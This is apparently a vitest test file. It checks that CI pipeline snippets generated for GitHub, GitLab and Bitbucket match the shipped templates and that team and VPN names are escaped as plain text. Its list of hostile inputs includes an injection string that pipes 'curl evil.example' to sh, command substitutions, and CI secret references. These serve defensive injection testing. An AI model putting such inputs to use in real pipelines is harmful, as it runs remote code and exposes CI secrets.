import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { z } from 'zod';
import bitbucketPipelines from '../../../integrations/bitbucket/bitbucket-pipelines.yml?raw';
import githubAction from '../../../integrations/github/action.yml?raw';
import githubWorkflow from '../../../integrations/github/workflow.yml?raw';
import gitlabPipeline from '../../../integrations/gitlab/gitlab-ci.yml?raw';
import gitlabTemplate from '../../../integrations/gitlab/template.yml?raw';
import { type PipelineFacts, snippetFiles } from './files.ts';

const facts: PipelineFacts = {
  server: 'https://culvert.example.com',
  team: 'Platform team',
  vpn: 'Company data center',
};

const hostile = [
  `It's "quoted" # no comment`,
  "a: b, [c] {d} & *e !f | > 'g' %h @i `j` \\n",
  '${{ secrets.TOKEN }} ${{ "',
  "'; curl evil.example | sh; '",
  '$HOME $(id) `id` $$ ${CI_JOB_TOKEN}',
  'one\u2028two\u2029three\u0085four',
  'true',
  '012',
  '- ~',
  'größer 東京 🚇',
];

const GitHub = z.object({
  jobs: z.object({
    preview: z.object({ steps: z.array(z.object({ with: z.record(z.string(), z.string()).optional() })) }),
  }),
});
const GitLab = z.object({ variables: z.record(z.string(), z.string()) }).loose();
const Bitbucket = z.object({
  definitions: z.object({
    steps: z.array(
      z.object({
        step: z.object({ oidc: z.object({ audiences: z.array(z.string()) }), script: z.array(z.string()) }),
      }),
    ),
  }),
});

const first = (provider: keyof typeof snippetFiles, changed: Partial<PipelineFacts> = {}): unknown =>
  parse(snippetFiles[provider]({ ...facts, ...changed })[0]?.text ?? '');

const githubInputs = (changed?: Partial<PipelineFacts>) =>
  GitHub.parse(first('github', changed)).jobs.preview.steps.flatMap((step) =>
    step.with ? [step.with] : [],
  )[0];

/** What GitHub makes of a value: only the one expression that gives `${{` back may be in it. */
const afterExpressions = (value: string): string => {
  expect(value.replaceAll("${{ '${{' }}", '')).not.toContain('${{');
  return value.replaceAll("${{ '${{' }}", '${{');
};

/** What GitLab makes of a value: `$$` is `$`, and nothing else may begin with one. */
const afterVariables = (value: string): string => {
  expect(value.replaceAll('$$', '')).not.toContain('$');
  return value.replaceAll('$$', '$');
};

/** The word that a shell reads after `export NAME=`, where it is made of quoted parts and quotes alone. */
const shellWord = (line: string | undefined, name: string): string => {
  const word = line?.slice(`export ${name}=`.length) ?? '';
  expect(word).toMatch(/^(?:'[^']*'|\\')+$/);
  return word.replace(
    /'([^']*)'|\\(')/g,
    (_, quoted: string | undefined, quote: string | undefined) => quoted ?? quote ?? '',
  );
};

describe('the files are those of integrations/, filled in', () => {
  test('GitHub’s workflow: only its inputs differ, and the action knows each', () => {
    const { inputs } = z.object({ inputs: z.record(z.string(), z.unknown()) }).parse(parse(githubAction));
    expect(githubInputs()).toEqual({ server: facts.server, vpnConfig: facts.vpn, team: facts.team });
    expect(Object.keys(inputs)).toEqual(expect.arrayContaining(['server', 'vpnConfig', 'team']));
    const withoutInputs = (value: unknown): unknown =>
      JSON.parse(JSON.stringify(value, (key, inner: unknown) => (key === 'with' ? undefined : inner)));
    expect(withoutInputs(first('github'))).toEqual(withoutInputs(parse(githubWorkflow)));
  });

  test('GitLab’s pipeline: only its variables differ, and the template has what it extends', () => {
    const { variables, ...rest } = GitLab.parse(first('gitlab'));
    const { variables: before, ...same } = GitLab.parse(parse(gitlabPipeline));
    expect(rest).toEqual(same);
    expect(variables).toEqual({ ...before, CULVERT_TEAM: facts.team });
    const template: unknown = parse(gitlabTemplate, { logLevel: 'silent' });
    expect(template).toHaveProperty(['.culvert-preview']);
    expect(template).toHaveProperty(['.culvert-preview-down']);
  });

  test('Bitbucket’s steps: the team is all that comes to it', () => {
    const filled = Bitbucket.parse(first('bitbucket'));
    const before = Bitbucket.parse(parse(bitbucketPipelines));
    for (const [index, { step }] of before.definitions.steps.entries()) {
      const now = filled.definitions.steps[index]?.step;
      expect(now?.oidc).toEqual(step.oidc);
      const bare = (line: string) => line.replaceAll("'", '');
      expect(now?.script.map(bare).filter((line) => !line.includes('CULVERT_TEAM'))).toEqual(
        step.script.map(bare),
      );
    }
  });
});

describe('names stay text, whatever they hold', () => {
  test.each(hostile)('%j at GitHub', (name) => {
    const inputs = githubInputs({ team: name, vpn: name });
    expect(Object.keys(inputs ?? {})).toEqual(['server', 'vpnConfig', 'team']);
    expect(afterExpressions(inputs?.['vpnConfig'] ?? '')).toBe(name);
    expect(afterExpressions(inputs?.['team'] ?? '')).toBe(name);
  });

  test.each(hostile)('%j at GitLab', (name) => {
    const { variables } = GitLab.parse(first('gitlab', { team: name, vpn: name }));
    expect(Object.keys(variables)).toEqual(['CULVERT_SERVER', 'VPN_CONFIG', 'CULVERT_TEAM']);
    expect(afterVariables(variables['VPN_CONFIG'] ?? '')).toBe(name);
    expect(afterVariables(variables['CULVERT_TEAM'] ?? '')).toBe(name);
  });

  test.each(hostile)('%j at Bitbucket', (name) => {
    const filled = Bitbucket.parse(first('bitbucket', { team: name, vpn: name }));
    const lines = filled.definitions.steps[0]?.step.script ?? [];
    expect(
      shellWord(
        lines.find((line) => line.includes('CULVERT_TEAM=')),
        'CULVERT_TEAM',
      ),
    ).toBe(name);
    expect(
      shellWord(
        lines.find((line) => line.includes('VPN_CONFIG=')),
        'VPN_CONFIG',
      ),
    ).toBe(name);
  });
});
